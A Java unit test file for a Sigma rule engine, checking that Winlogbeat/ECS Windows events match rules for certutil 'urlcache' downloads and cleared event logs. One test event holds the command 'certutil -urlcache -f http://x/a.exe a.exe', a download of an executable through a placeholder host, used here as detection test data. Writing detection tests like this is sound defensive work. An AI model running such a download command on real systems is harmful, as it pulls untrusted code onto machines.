package kahu.detect.sigma;

import kahu.ingest.Event;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** Windows rules on the same events shipped as Winlogbeat/ECS documents (winlog.* names). */
class SigmaEcsTest {
    @Test
    void winlogbeatDocumentsAreRoutedAndMatched() {
        SigmaRule r = SigmaTestRules.rule("sel:\n    Image|endswith: '\\\\certutil.exe'\n    CommandLine|contains: 'urlcache'\ncondition: sel");
        SigmaEngine engine = SigmaEngine.compile(List.of(r));
        Event ecs = new Event("winlogbeat.ndjson", 1, "ecs", null, Map.of(
                "winlog.channel", "Microsoft-Windows-Sysmon/Operational", "winlog.event_id", "1",
                "winlog.event_data.Image", "C:\\Windows\\System32\\certutil.exe",
                "winlog.event_data.CommandLine", "certutil -urlcache -f http://x/a.exe a.exe"), Map.of());
        assertThat(engine.matches(ecs)).singleElement()
                .satisfies(m -> assertThat(m.matchedFields()).containsKeys("winlog.event_data.Image", "winlog.event_data.CommandLine"));
        Event otherId = new Event("w", 2, "ecs", null, Map.of("winlog.channel", "Microsoft-Windows-Sysmon/Operational",
                "winlog.event_id", "3", "winlog.event_data.Image", "C:\\certutil.exe", "winlog.event_data.CommandLine", "urlcache"), Map.of());
        assertThat(engine.matches(otherId)).as("event 3 is not a process creation").isEmpty();
    }

    @Test
    void winlogbeatDocumentsAreRoutedByTheirOwnChannelNotByAnEventDataItemNamedChannel() throws Exception {
        SigmaRule r = new SigmaRuleLoader(Map.of()).parse(java.nio.file.Path.of("t.yml"), """
                title: Log cleared
                id: 00000000-0000-0000-0000-000000000104
                logsource: {product: windows, service: system}
                detection:
                    sel:
                        EventID: 104
                    condition: sel
                """);
        SigmaEngine engine = SigmaEngine.compile(List.of(r));
        // System 104 (a log was cleared) names the cleared log in its data as "Channel"; Winlogbeat keeps the
        // event's own channel in winlog.channel, and the reader exposes both.
        Event cleared = new Event("winlogbeat.ndjson", 1, "winlogbeat", null, Map.of(
                "winlog.channel", "System", "winlog.event_id", "104", "EventID", 104L,
                "winlog.user_data.Channel", "Microsoft-Windows-PowerShell/Operational",
                "Channel", "Microsoft-Windows-PowerShell/Operational"), Map.of());
        assertThat(engine.matches(cleared)).hasSize(1);
    }
}
